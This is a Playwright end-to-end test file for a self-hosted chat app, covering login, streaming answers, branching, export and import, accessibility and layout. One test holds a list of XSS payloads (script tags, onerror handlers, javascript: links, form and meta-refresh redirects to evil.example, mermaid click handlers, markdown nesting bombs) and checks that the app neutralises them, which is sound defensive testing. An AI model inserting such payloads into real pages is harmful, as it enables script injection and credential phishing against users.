// The chat application end to end: the built page in a real browser on the real routes, with a scripted engine. Also takes the
// screenshots of docs/screenshots when WEIR_SCREENSHOTS=1; WEIR_TIMES=1 judges the times that are otherwise only printed.
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readFileSync, statSync } from "node:fs";
import { createRequire } from "node:module";
import { after, afterEach, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { gzipSync } from "node:zlib";
import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { buildPage, launch, type Running, serve, serveModel } from "./chat-app/browser.ts";
import { type Script, tokensOf } from "./chat-app/scripted.ts";

// What functions handed to the browser find there.
// biome-ignore-start lint/suspicious/noExplicitAny: the browser's globals, of which this program has no types
declare const window: any;
declare const document: any;
declare const location: any;
declare const getComputedStyle: any;
declare const requestAnimationFrame: any;
declare const DataTransfer: any;
declare const ClipboardEvent: any;
type Element = any;
// biome-ignore-end lint/suspicious/noExplicitAny: the browser's globals, of which this program has no types

const root = fileURLToPath(new URL("../", import.meta.url));
const axeSource = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const shots = process.env.WEIR_SCREENSHOTS === "1" ? `${root}docs/screenshots/` : undefined;

/** Times hold on a machine that does nothing else; elsewhere they are printed. */
const timed = process.env.WEIR_TIMES === "1";

let browser: Browser;
let server: Running;
/** What went wrong in any page: errors, refused by policy, requests to elsewhere. */
const troubles: string[] = [];

before(async () => {
  buildPage();
  browser = await launch();
  server = await serve();
  if (shots) mkdirSync(shots, { recursive: true });
});
afterEach(async () => {
  await Promise.all(browser.contexts().map((context) => context.close()));
});
after(async () => {
  await browser?.close();
  await server?.close();
});

async function visit(
  path = "",
  options: BrowserContextOptions & { on?: Pick<Running, "url"> & Partial<Running> } = {},
): Promise<Page> {
  const { on = server, ...rest } = options;
  // Habits of earlier tests (thinking off, a theme) are not to follow.
  on.engine?.deps.db.exec("DELETE FROM app_settings");
  const context = await browser.newContext({ locale: "en-GB", viewport: { width: 1280, height: 820 }, ...rest });
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  // What the policy refuses in the page itself; the diagram frame has its own, which hostile diagrams are meant to meet.
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event: { violatedDirective: string; blockedURI: string }) => {
      if (!location.pathname.endsWith("/diagram.html"))
        console.log("REFUSED", location.pathname, event.violatedDirective, event.blockedURI);
    });
  });
  const page = await context.newPage();
  // A machine that is busy with other work is slow, not wrong.
  page.setDefaultTimeout(60_000);
  page.on("pageerror", (error) => troubles.push(`error: ${error.stack ?? error.message}`));
  page.on("console", (message) => {
    if (message.text().startsWith("REFUSED")) troubles.push(message.text());
  });
  page.on("request", (request) => {
    const { protocol, host } = new URL(request.url());
    if (!["data:", "blob:"].includes(protocol) && host !== new URL(on.url).host)
      troubles.push(`request to ${request.url()}`);
  });
  await page.goto(on.url + path);
  return page;
}

const answerWith = (script: Script): void => {
  server.engine.script = () => script;
};
const usual = (): void => {
  server.engine.script = undefined;
};

async function send(page: Page, text: string): Promise<void> {
  await page.fill("#composer", text);
  await page.press("#composer", "Enter");
}

/** Waits until the last answer has ended. */
async function ended(page: Page, count: number): Promise<void> {
  await page.waitForFunction(
    (wanted) =>
      document.querySelectorAll(".answer").length === wanted &&
      !document.querySelector(".markdown.running") &&
      document.querySelectorAll(".answer .actions").length === wanted,
    count,
  );
}

async function serious(page: Page, view: string): Promise<void> {
  await page.evaluate(axeSource);
  const found = await page.evaluate(async () => {
    const result = await window.axe.run(document, { resultTypes: ["violations"] });
    return result.violations
      .filter((one: { impact: string }) => one.impact === "serious" || one.impact === "critical")
      .map((one: { id: string; nodes: { html: string; failureSummary: string }[] }) => [
        one.id,
        one.nodes.slice(0, 3).map((node) => `${node.html.slice(0, 200)} ${node.failureSummary}`),
      ]);
  });
  assert.deepEqual(found, [], view);
}

async function shoot(page: Page, name: string): Promise<void> {
  if (!shots) return;
  const path = `${shots}${name}.png`;
  await page.screenshot({ path });
  assert.ok(statSync(path).size < 300_000, `${name} is larger than 300 kB`);
}

test("the first load is under 250 kB of compressed script", () => {
  const html = readFileSync(`${root}web/dist/index.html`, "utf8");
  const scripts = [...html.matchAll(/(?:src|href)="\/app\/(assets\/[^"]+\.js)"/g)].map(([, path]) => path);
  assert.ok(scripts.length > 0, "the page loads no script");
  const bytes = scripts.reduce((sum, path) => sum + gzipSync(readFileSync(`${root}web/dist/${path}`)).length, 0);
  console.log(`first load: ${(bytes / 1000).toFixed(0)} kB of script (gzip), ${scripts.length} files`);
  assert.ok(bytes < 250_000);
});

test("first run, invitation, log-in and log-out", async () => {
  const own = await serve({ accounts: true });
  try {
    const page = await visit("", { on: own });
    await page.getByRole("heading", { name: "Set up Weir" }).waitFor();
    await serious(page, "set-up");
    await shoot(page, "first-run");
    await page.getByLabel("One-time token").fill("wrong");
    await page.getByLabel("Name").fill("Ada");
    await page.getByLabel("Password").fill("correct horse");
    await page.getByRole("button", { name: "Set up Weir" }).click();
    await page.getByText("This is not the token printed in the terminal.").waitFor();
    const token = /token: (\S+)/.exec(own.engine.printed.join("\n"))![1];
    await page.getByLabel("One-time token").fill(token);
    await page.getByRole("button", { name: "Set up Weir" }).click();
    await page.getByRole("heading", { name: "What shall we think about?" }).waitFor();

    await page.goto(`${own.url}settings`);
    await page.getByRole("button", { name: "Invite someone" }).click();
    const link = await page.getByRole("textbox", { name: "Invite someone" }).inputValue();
    await serious(page, "settings with people");
    const member = await visit(new URL(link).pathname.replace("/app/", ""), { on: own });
    await member.getByLabel("Name").fill("小明");
    await member.getByLabel("Password").fill("a good password");
    await member.getByRole("button", { name: "Join" }).click();
    await member.getByRole("heading", { name: "What shall we think about?" }).waitFor();
    await member.goto(`${own.url}settings`);
    assert.equal(await member.getByRole("heading", { name: "People" }).count(), 0, "members see no people");

    // A forgotten password.
    await page.goto(`${own.url}settings`);
    await page.getByRole("button", { name: "Password link" }).click();
    await page.waitForFunction(() =>
      [...document.querySelectorAll("input")].some(({ value }: Element) => value.includes("/app/reset/")),
    );
    const resetLink = await page.getByRole("textbox", { name: "Invite someone" }).inputValue();
    await member.context().clearCookies();
    await member.goto(resetLink);
    await member.getByLabel("New password").or(member.getByLabel("Password")).first().fill("yet another one");
    await member.getByRole("button", { name: "New password" }).click();
    await member.getByRole("heading", { name: "What shall we think about?" }).waitFor();

    // A session that ends leaves what was typed.
    await page.goto(own.url);
    await page.fill("#composer", "half a thought");
    await page.context().clearCookies();
    await page.press("#composer", "Enter");
    await page.getByRole("heading", { name: "Log in" }).waitFor();
    await page.getByLabel("Name").fill("Ada");
    await page.getByLabel("Password").fill("correct horse");
    await page.getByRole("button", { name: "Log in" }).click();
    await page.waitForFunction(() => document.getElementById("composer")?.value === "half a thought");
  } finally {
    await own.close();
  }
});

test("chat with thinking: live line and seconds, folded afterwards, opens to the full text", async () => {
  const { promise: gate, resolve: goOn } = Promise.withResolvers<void>();
  answerWith({
    reasoning: "First I look.\nThen I weigh it.\n".repeat(8),
    content: "The **answer** is $x^2$.",
    delay: 5,
    gate,
  });
  const page = await visit();
  await send(page, "think about it");
  await page.locator(".thinking.live .thinking-line", { hasText: /weigh/ }).waitFor();
  assert.match((await page.locator(".thinking-label").textContent())!, /Thinking · \d+ s/);
  goOn();
  await ended(page, 1);
  const head = page.getByRole("button", { name: /Thought for \d+ s/ });
  assert.equal(await head.getAttribute("aria-expanded"), "false");
  await head.click();
  assert.match((await page.locator(".thinking-text").textContent())!, /First I look\.\nThen I weigh it\./);
  assert.equal(await page.locator(".markdown strong").textContent(), "answer");
  await page.locator(".markdown .katex").waitFor();
  assert.match(page.url(), /\/app\/c\//);
  assert.equal(await page.title(), "think about it · Weir");
});

test("DeepThink off, parameters and system prompt reach the engine", async () => {
  usual();
  const page = await visit();
  await page.getByRole("button", { name: "DeepThink" }).click();
  await page.getByRole("button", { name: "Parameters" }).click();
  await page.getByLabel("System prompt").fill("Answer in verse.");
  await page.getByLabel("Temperature").fill("0.3");
  await page.getByRole("button", { name: "Save" }).click();
  await send(page, "hello");
  await ended(page, 1);
  const request = server.engine.requests.at(-1)!;
  assert.equal(request.conversation.thinking, "off");
  assert.equal(request.conversation.messages[0].content, "Answer in verse.");
  assert.equal(request.sampling.temperature, 0.3);
  assert.equal(await page.locator(".thinking").count(), 0);
});

test("answer now ends the thinking", async () => {
  answerWith({ reasoning: "hmm ".repeat(3000), content: "Forty-two.", delay: 4 });
  const page = await visit();
  await send(page, "ponder");
  await page.getByRole("button", { name: "Answer now" }).click();
  await ended(page, 1);
  assert.equal((await page.locator(".answer .markdown").textContent())!.trim(), "Forty-two.");
});

test("stop reaches the engine, keeps the text, and the answer can be continued", async () => {
  answerWith({ content: "word ".repeat(3000), delay: 4 });
  const page = await visit();
  const before = server.engine.aborted;
  await send(page, "go on");
  await page.locator(".markdown.running", { hasText: "word word" }).waitFor();
  await page.getByRole("button", { name: "Stop" }).click();
  await page.getByText("Stopped.").waitFor();
  assert.equal(server.engine.aborted, before + 1);
  const kept = (await page.locator(".answer .markdown").textContent())!.length;
  assert.ok(kept > 5);
  answerWith({ content: `${"word ".repeat(3000)}`.slice(0, kept + 40), delay: 1 });
  await page.getByRole("button", { name: "Continue" }).click();
  await ended(page, 1);
  await page.getByText("Stopped.").waitFor({ state: "detached" });
  assert.ok((await page.locator(".answer .markdown").textContent())!.length > kept);
});

test("edit makes a branch, regenerate a sibling, and both can be switched", async () => {
  usual();
  const page = await visit();
  await send(page, "first wording");
  await ended(page, 1);
  await page.locator(".question").hover();
  await page.locator(".question").getByRole("button", { name: "Edit" }).click();
  await page.locator(".editor textarea").fill("second wording");
  await page.locator(".editor").getByRole("button", { name: "Send" }).click();
  await page.locator(".bubble", { hasText: "second wording" }).waitFor();
  await ended(page, 1);
  await page.locator(".question .versions", { hasText: "2/2" }).waitFor();
  await page.locator(".answer").getByRole("button", { name: "Regenerate" }).click();
  await page.locator(".answer .versions", { hasText: "2/2" }).waitFor();
  await page
    .locator(".question")
    .getByRole("button", { name: /Previous version/ })
    .click();
  await page.locator(".bubble", { hasText: "first wording" }).waitFor();
  await page.reload();
  await page.locator(".bubble", { hasText: "first wording" }).waitFor();
  await page.locator(".question").getByRole("button", { name: "Remove this branch" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
  await page.locator(".bubble", { hasText: "second wording" }).waitFor();
  assert.equal(await page.locator(".question .versions").count(), 0);
});

test("an answer survives a reload, shows on a second device while it runs, and stops from there", async () => {
  const words = Array.from({ length: 6000 }, (_, n) => `w${n}`).join(" ");
  answerWith({ reasoning: "a short thought ".repeat(4), content: words, delay: 8 });
  const page = await visit();
  await send(page, "count");
  await page.locator(".markdown.running", { hasText: "w10" }).waitFor();
  const second = await visit(new URL(page.url()).pathname.replace("/app/", ""));
  await second.locator(".markdown.running", { hasText: "w20" }).waitFor();
  await page.reload();
  await page.locator(".markdown.running", { hasText: "w30" }).waitFor();
  assert.equal(await page.locator(".sidebar .pulse").count(), 1);
  await second.getByRole("button", { name: "Stop" }).click();
  await ended(page, 1);
  await ended(second, 1);
  const [first, other] = await Promise.all(
    [page, second].map(async (one) => (await one.locator(".answer .markdown").textContent())!.trim()),
  );
  assert.equal(first, other);
  assert.ok(words.startsWith(first) && first.length > 100, "the text is whole, without a gap");
});

test("export and import round trip through the settings page; Markdown export; DeepSeek's export in a ZIP", async () => {
  usual();
  const own = await serve();
  try {
    const page = await visit("", { on: own });
    await send(page, "to be exported");
    await ended(page, 1);
    await page.goto(`${own.url}settings`);
    const download = page.waitForEvent("download");
    await page.getByRole("button", { name: "Export all conversations" }).click();
    const file = await (await download).path();
    const exported = JSON.parse(readFileSync(file, "utf8"));
    assert.equal(exported.conversations[0].messages.length, 2);
    const give = async (name: string, buffer: Buffer) => {
      const chooser = page.waitForEvent("filechooser");
      await page.getByRole("button", { name: "Import conversations" }).click();
      await (await chooser).setFiles({ name, mimeType: "application/octet-stream", buffer });
    };
    await give("weir.json", readFileSync(file));
    await page.getByText("1 conversation imported.").waitFor();
    await page.locator(".entry", { hasText: "to be exported" }).nth(1).waitFor();
    await give("nonsense.json", Buffer.from("not json"));
    await page.getByText("This file is not JSON.").waitFor();
    const deepseek = JSON.stringify([
      {
        title: "质数",
        mapping: {
          root: { parent: null, message: null },
          1: { parent: "root", message: { fragments: [{ type: "REQUEST", content: "什么是质数?" }] } },
          2: {
            parent: "1",
            message: {
              fragments: [
                { type: "THINK", content: "想" },
                { type: "RESPONSE", content: "整除。" },
              ],
            },
          },
        },
      },
    ]);
    await give("deepseek_data.zip", zip("data/conversations.json", Buffer.from(deepseek)));
    await page.locator(".entry a", { hasText: "质数" }).click();
    await page.locator(".answer", { hasText: "整除。" }).waitFor();
    await page
      .locator(".top")
      .getByRole("button", { name: /Conversation/ })
      .click();
    const markdown = page.waitForEvent("download");
    await page.getByRole("menuitem", { name: "Export as Markdown" }).click();
    assert.match(readFileSync(await (await markdown).path(), "utf8"), /^# 质数\n\n## User\n\n什么是质数/);
  } finally {
    await own.close();
  }
});

/** A ZIP of one stored file. */
function zip(name: string, data: Buffer): Buffer {
  const path = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(path.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(path.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + path.length, 12);
  end.writeUInt32LE(local.length + path.length + data.length, 16);
  return Buffer.concat([local, path, data, central, path, end]);
}

test("the tutor: marked steps in an answer, exercises, own steps checked, hint", async () => {
  answerWith({
    reasoning: "17 × 3 = 51\n51 + 4 = 56\nso it is done",
    content: "The result is $\\boxed{55}$.",
    delay: 1,
  });
  const page = await visit();
  await send(page, "What is 17 × 3 + 4?");
  await ended(page, 1);
  await page.locator(".step.wrong").waitFor();
  assert.deepEqual(
    await page.locator(".step").evaluateAll((steps) => steps.map((step) => step.className.replace("step ", ""))),
    ["right", "wrong", "unchecked"],
  );
  assert.match((await page.locator(".step-why").textContent())!, /It should be .*55/);
  await serious(page, "tutor answer");
  await shoot(page, "tutor-answer");

  await page.goto(`${server.url}tutor`);
  await page.getByLabel("Skill").selectOption("add");
  await page.getByLabel("Difficulty").fill("3");
  await page.getByRole("button", { name: "New exercise" }).click();
  await page.locator(".exercise-question", { hasText: /\d/ }).waitFor();
  await page.getByLabel("Your steps, one per line").fill("1000 + 5 = 1005\n1005 + 1 = 1007");
  await page.getByRole("button", { name: "Check my steps" }).click();
  await page.getByText("One step is wrong.").waitFor();
  assert.equal(await page.getByText("Expected").count(), 0, "the result is not given away");
  await serious(page, "tutor page");
  await shoot(page, "tutor");
  usual();
  await page.getByRole("button", { name: "Hint" }).click();
  await page.locator(".bubble", { hasText: "Give me a hint: " }).waitFor();
  await ended(page, 1);
  // Back at the exercise, nothing of it is lost.
  await page.getByRole("link", { name: "Step Tutor" }).click();
  await page.locator(".exercise-question", { hasText: /\d/ }).waitFor();
  assert.match(await page.getByLabel("Your steps, one per line").inputValue(), /1005 \+ 1 = 1007/);
  await page.getByText("One step is wrong.").waitFor();
  await page.getByLabel("Your steps, one per line").fill("1000 + 5 = 1005");
  await page.getByLabel("Your steps, one per line").press("Control+Enter");
  await page.getByText("Every checked step is right.").waitFor();
});

test("see inside: tokens with probabilities and alternatives, experts, speed, cache, context, energy and cost", async () => {
  usual();
  const page = await visit();
  await page.locator(".greeting").waitFor();
  await page.keyboard.press("Control+i");
  await send(page, "look inside");
  await ended(page, 1);
  const panel = page.getByRole("complementary", { name: "See inside" });
  await panel.locator(".token").first().waitFor();
  const answer = server.engine.requests.at(-1)!;
  assert.equal(answer.inside, true);
  assert.ok((await panel.locator(".token").count()) > 10);
  await panel.locator(".token").nth(3).click();
  assert.equal(await panel.locator(".alternatives li").count(), 3);
  await panel.locator(".tokens").press("ArrowRight");
  assert.equal(await panel.locator(".token").nth(4).getAttribute("aria-selected"), "true");
  assert.match((await panel.locator("canvas").getAttribute("aria-label"))!, /6 × 16/);
  for (const fact of ["Speed", "First token", "Prompt from cache", "Energy", "Cost", "Mean probability"])
    assert.equal(await panel.locator("dt", { hasText: fact }).count(), 1, fact);
  assert.equal(await panel.getByRole("meter", { name: "Context used" }).count(), 1);
  const painted = await panel.locator("canvas").evaluate((canvas: Element) => {
    const { data } = canvas.getContext("2d")!.getImageData(0, 0, canvas.width, canvas.height);
    return new Set(Array.from({ length: data.length / 4 }, (_, at) => data[at * 4 + 3])).size;
  });
  assert.ok(painted > 3, "the heat map shows different shares");
  await serious(page, "inside");
  await shoot(page, "see-inside");
  // What was recorded is there after a reload too.
  await page.reload();
  await panel.locator(".token").nth(3).waitFor();
});

test("Chinese and English, light and dark, phone width without sideways scrolling", async () => {
  answerWith({
    reasoning: "先算乘法\n17×3=51",
    content:
      "## 结果\n\n答案是 **55**。\n\n| 步骤 | 结果 |\n|---|---|\n| 17×3 | 51 |\n| 51+4 | 55 |\n\n```ts\nconst answer: number = 17 * 3 + 4;\n```",
    delay: 1,
  });
  const page = await visit("", { locale: "zh-CN" });
  await page.getByRole("heading", { name: "今天想一起思考什么？" }).waitFor();
  await serious(page, "greeting in Chinese");
  await shoot(page, "greeting-zh");
  await send(page, "17×3+4 等于多少?");
  await ended(page, 1);
  await page.locator(".code-keyword").first().waitFor();
  await shoot(page, "chat-zh");
  await serious(page, "chat, light");
  await page.keyboard.press("Control+Shift+L");
  await page.waitForFunction(() => document.documentElement.dataset.theme === "dark");
  await page.waitForTimeout(300);
  await serious(page, "chat, dark");
  await shoot(page, "chat-dark");
  const { pathname } = new URL(page.url());
  await page.goto(`${server.url}settings`);
  await page.getByText("English", { exact: true }).click();
  await page.getByRole("heading", { name: "Settings", level: 1 }).waitFor();
  assert.equal(await page.evaluate(() => document.documentElement.lang), "en");
  for (const [path, name] of [
    ["models", "Models"],
    ["usage", "Usage"],
    ["settings", "Settings"],
  ]) {
    await page.goto(server.url + path);
    await page.getByRole("heading", { name, level: 1 }).waitFor();
    await page.waitForTimeout(200);
    await serious(page, `${path}, dark`);
    await shoot(page, path);
  }

  const phone = await visit(pathname.replace("/app/", ""), {
    viewport: { width: 375, height: 740 },
    hasTouch: true,
    isMobile: true,
    locale: "zh-CN",
  });
  await phone.locator(".answer table").waitFor();
  assert.equal(await phone.evaluate(() => document.documentElement.scrollWidth), 375);
  await serious(phone, "phone");
  await shoot(phone, "phone");
  await phone.locator(".top .icon-button").first().click();
  await phone.locator(".entry a").first().waitFor();
  await phone.waitForTimeout(300);
  await serious(phone, "phone drawer");
  await phone.locator(".new-chat").tap();
  await phone.waitForFunction(() => location.pathname === "/app/");
  for (const path of ["tutor", "models", "usage", "settings"]) {
    await phone.goto(server.url + path);
    await phone.locator(".page h1").waitFor();
    await phone.waitForTimeout(200);
    assert.equal(await phone.evaluate(() => document.documentElement.scrollWidth), 375, path);
  }
});

test("keyboard only: palette, shortcuts, folders, rename, search", async () => {
  usual();
  const own = await serve();
  try {
    const page = await visit("", { on: own });
    await page.waitForFunction(() => document.activeElement?.id === "composer");
    await page.keyboard.type("a question about herons");
    await page.keyboard.press("Enter");
    await ended(page, 1);
    await page.keyboard.press("Control+k");
    await page.keyboard.type("usage");
    await shoot(page, "palette");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Usage", level: 1 }).waitFor();
    await page.keyboard.press("Control+k");
    await page.keyboard.type("herons");
    await serious(page, "palette");
    await page.keyboard.press("Enter");
    await page.locator(".bubble", { hasText: "herons" }).waitFor();
    await page.keyboard.press("Control+Shift+O");
    await page.getByRole("heading", { name: "What shall we think about?" }).waitFor();

    await page.getByRole("button", { name: "New folder" }).press("Enter");
    await page.getByLabel("Folder name").fill("Birds");
    await page.getByLabel(/Instructions for every/).fill("Be exact.");
    await page.keyboard.press("Enter");
    await page.getByRole("dialog").getByRole("button", { name: "Save" }).press("Enter");
    await page.getByRole("button", { name: "New chat: Birds" }).press("Enter");
    await send(page, "in the folder");
    await ended(page, 1);
    assert.equal(own.engine.requests.at(-1)!.conversation.messages[0].content, "Be exact.");
    await page
      .locator(".top")
      .getByRole("button", { name: /Conversation/ })
      .press("Enter");
    await page.getByRole("menuitem", { name: "Rename" }).press("Enter");
    await page.getByRole("textbox", { name: "Rename" }).fill("Egrets");
    await page.keyboard.press("Enter");
    await page.locator(".entry", { hasText: "Egrets" }).waitFor();
    await page
      .locator(".top")
      .getByRole("button", { name: /Conversation/ })
      .press("Enter");
    await page.getByRole("menuitem", { name: "Pin" }).press("Enter");
    await page.locator(".heading", { hasText: "Pinned" }).waitFor();
    await page.getByRole("button", { name: /Conversation: a question/ }).press("Enter");
    await page.getByRole("menuitem", { name: "Archive" }).press("Enter");
    await page.locator(".heading", { hasText: "Archived" }).waitFor();
    await page.getByRole("searchbox").fill("heron");
    await page.locator(".hit", { hasText: "herons" }).first().press("Enter");
    await page.locator(".bubble", { hasText: "herons" }).waitFor();
  } finally {
    await own.close();
  }
});

test("errors are said in place and nothing typed is lost: server gone, model missing, quota, file, engine", async () => {
  const own = await serve();
  const page = await visit("", { on: own });
  await page.waitForFunction(() => document.activeElement?.id === "composer");
  own.engine.script = () => ({ content: "", fail: { code: "context_length_exceeded", message: "too long" } });
  await send(page, "fails");
  await page.getByText("The conversation is longer than the model can read.").waitFor();

  const pick = async (name: string, buffer: Buffer) => {
    const chooser = page.waitForEvent("filechooser");
    await page.getByRole("button", { name: "Attach files" }).click();
    await (await chooser).setFiles({ name, mimeType: "", buffer });
  };
  await page.fill("#composer", "my words");
  await pick("picture.png", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 0xff]));
  await page.getByText("Only text, Markdown, code and PDF can be attached.").waitFor();
  await pick("big.txt", Buffer.alloc(5_000_000, "a"));
  await page.getByText("This file is too large").waitFor();
  await pick("notes.md", Buffer.from("# Notes"));
  await page.locator(".composer .file", { hasText: "notes.md" }).waitFor();

  // A long paste becomes a file.
  await page.evaluate(() => {
    const data = new DataTransfer();
    data.setData("text/plain", "long ".repeat(2000));
    const event = new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true });
    document.getElementById("composer")!.dispatchEvent(event);
  });
  await page.locator(".composer .file", { hasText: "Pasted text" }).waitFor();

  // The model goes away between two messages.
  const [first] = own.engine.deps.models.list();
  const { name } = first;
  own.engine.deps.models.list().splice(0, 1);
  await page.press("#composer", "Enter");
  await page.getByText("This model is not on the server any more.").waitFor();
  assert.equal(await page.inputValue("#composer"), "my words");
  own.engine.deps.models.list().unshift({ ...first, name });

  await own.close();
  await page.press("#composer", "Enter");
  await page.getByText("The server cannot be reached. Nothing you typed is lost.").waitFor();
  assert.equal(await page.inputValue("#composer"), "my words");
  assert.equal(await page.locator(".composer .file").count(), 2);
  await shoot(page, "server-gone");
  // The draft outlives the page as well; the server comes back on the same port.
  const { port } = new URL(own.url);
  const again = await serve({ db: own.engine.deps.db }, Number(port));
  try {
    await page.reload();
    await page.waitForFunction(() => document.getElementById("composer")?.value === "my words");
    assert.equal(await page.locator(".composer .file").count(), 2);
    await page.press("#composer", "Enter");
    await page.locator(".bubble", { hasText: "my words" }).waitFor();
    assert.equal(await page.inputValue("#composer"), "");
  } finally {
    await again.close();
  }
});

/** A PDF of one page with a line of text, or none. */
function pdf(line: string): Buffer {
  const content = line === "" ? "" : `BT /F1 18 Tf 72 720 Td (${line}) Tj ET`;
  const objects = [
    "<</Type/Catalog/Pages 2 0 R>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
    `<</Length ${content.length}>>stream\n${content}\nendstream`,
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
  ];
  let text = "%PDF-1.4\n";
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj${object}endobj\n`;
    return String(place).padStart(10, "0");
  });
  const table = text.length;
  text += `xref\n0 6\n0000000000 65535 f \n${places.map((place) => `${place} 00000 n \n`).join("")}`;
  return Buffer.from(`${text}trailer<</Size 6/Root 1 0 R>>\nstartxref\n${table}\n%%EOF\n`);
}

test("the text of a PDF is attached; a PDF without text and a broken one say so", async () => {
  const page = await visit();
  await page.waitForFunction(() => document.activeElement?.id === "composer");
  const pick = async (name: string, buffer: Buffer) => {
    const chooser = page.waitForEvent("filechooser");
    await page.getByRole("button", { name: "Attach files" }).click();
    await (await chooser).setFiles({ name, mimeType: "application/pdf", buffer });
  };
  await pick("scan.pdf", pdf(""));
  await page.getByText("This PDF holds pictures of pages and no text.").waitFor();
  await pick("broken.pdf", Buffer.from("%PDF-1.4\nnothing"));
  await page.getByText("This PDF cannot be read").waitFor();
  await pick("weir.pdf", pdf("Herons stand on the weir"));
  await page.locator(".composer .file", { hasText: "weir.pdf" }).waitFor();
  usual();
  await send(page, "what is in the file?");
  await ended(page, 1);
  await page.locator(".question .file", { hasText: "weir.pdf" }).waitFor();
  const stored = server.engine.deps.db.prepare("SELECT group_concat(event) AS events FROM app_events").get();
  assert.match(String(stored?.events), /Herons stand on the weir/);
});

test("a used-up quota is said in place", async () => {
  const own = await serve({ accounts: true });
  try {
    const token = /token: (\S+)/.exec(own.engine.printed.join("\n"))![1];
    const page = await visit("", { on: own });
    await page.getByLabel("One-time token").fill(token);
    await page.getByLabel("Name").fill("Ada");
    await page.getByLabel("Password").fill("correct horse");
    await page.getByRole("button", { name: "Set up Weir" }).click();
    await page.getByRole("heading", { name: "What shall we think about?" }).waitFor();
    own.engine.deps.db.exec("UPDATE app_accounts SET quota = 5");
    await send(page, "one two three four");
    await page.getByText("The answer reached its length limit.").waitFor();
    await send(page, "and more");
    await page.getByText("Today's tokens are used up.").waitFor();
    assert.equal(await page.inputValue("#composer"), "and more");
  } finally {
    await own.close();
  }
});

const hostile = [
  "<script>window.pwned = 1</script><img src=x onerror='window.pwned=2'><iframe src='https://evil.example'></iframe>",
  "[click](javascript:window.pwned=3) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:x) ![i](https://evil.example/track.png)",
  "<style>body{display:none}</style><div style='position:fixed;inset:0;z-index:9999'>cover</div><svg onload=window.pwned=4></svg>",
  "<form action='https://evil.example'><input name=password></form><base href='https://evil.example'><meta http-equiv=refresh content='0;url=https://evil.example'>",
  '```html\n<script>window.pwned = 5</script>\n```\n\n```"onmouseover=alert(1)\nx\n```',
  "$\\href{javascript:window.pwned=6}{x}$ $\\htmlStyle{position:fixed}{y}$ $\\includegraphics{https://evil.example/a.png}$ $$\\def\\a{\\a\\a}\\a$$",
  '```mermaid\ngraph LR\n A[<img src=x onerror=parent.pwned=7>] --> B\n click A href "javascript:parent.pwned=8"\n```',
  `| ${"a | ".repeat(300)}\n|${"---|".repeat(300)}\n${`| ${"cell | ".repeat(300)}\n`.repeat(60)}`,
  `${"> ".repeat(3000)}deep`,
  `${"[".repeat(5000)}${"![".repeat(3000)}`,
  `${"*_".repeat(5000)}x`,
  `${"- ".repeat(2000)}x`,
  "`".repeat(9000),
  "a".repeat(40_000),
  "**bold *italic `code [link](http://x ![img](y <div><b>unclosed\n\n```\nnever closed",
].join("\n\n");

test("a hostile model renders harmlessly: no script, no frame, no foreign address, nothing over the page", async () => {
  answerWith({ reasoning: hostile.slice(0, 3000), content: hostile, delay: 1, burst: 60 });
  const page = await visit();
  await send(page, "be evil");
  await ended(page, 1);
  const found = await page.evaluate(() => ({
    pwned: window.pwned,
    elements: document.querySelectorAll(
      ".message :is(script, style, iframe, object, embed, form, img, link, meta, base, video, audio, input)",
    ).length,
    handlers: [...document.querySelectorAll(".message *")].filter((element) =>
      [...element.attributes].some(({ name }) => name.startsWith("on")),
    ).length,
    addresses: [...document.querySelectorAll(".message a")]
      .map((link) => link.protocol)
      .filter((protocol) => !["http:", "https:", "mailto:"].includes(protocol)),
    fixed: [...document.querySelectorAll(".markdown *")].filter((element) =>
      ["fixed", "sticky"].includes(getComputedStyle(element).position),
    ).length,
    visible: getComputedStyle(document.body).display,
  }));
  assert.deepEqual(found, { pwned: undefined, elements: 0, handlers: 0, addresses: [], fixed: 0, visible: "block" });
  await page.getByRole("button", { name: "Show diagram" }).first().click();
  await page.waitForTimeout(1500);
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  await page.getByRole("button", { name: /Thought for/ }).click();
  // Still alive and quick.
  await page.fill("#composer", "still here");
  await page.reload();
  await page.locator(".answer").waitFor();
});

/** Measures from each key press to the paint after it. */
async function typing(page: Page, text: string): Promise<number[]> {
  await page.focus("#composer");
  await page.evaluate(() => {
    const times: number[] = (window.keyTimes = []);
    document.getElementById("composer")!.addEventListener("keydown", () => {
      const started = performance.now();
      requestAnimationFrame(() => setTimeout(() => times.push(performance.now() - started)));
    });
  });
  for (const character of text) await page.keyboard.press(character);
  await page.waitForTimeout(100);
  return page.evaluate(() => window.keyTimes);
}

const median = (values: number[]): number => values.toSorted((a, b) => a - b)[Math.floor(values.length / 2)];

test("a conversation of 1,000 messages opens in under 1 s and keeps typing under 50 ms a key", async () => {
  const messages = Array.from({ length: 1000 }, (_, n) => ({
    id: `message-${n}`,
    parent: n === 0 ? null : `message-${n - 1}`,
    role: n % 2 === 0 ? "user" : "assistant",
    content:
      n % 2 === 0
        ? `Question ${n}: what about this?`
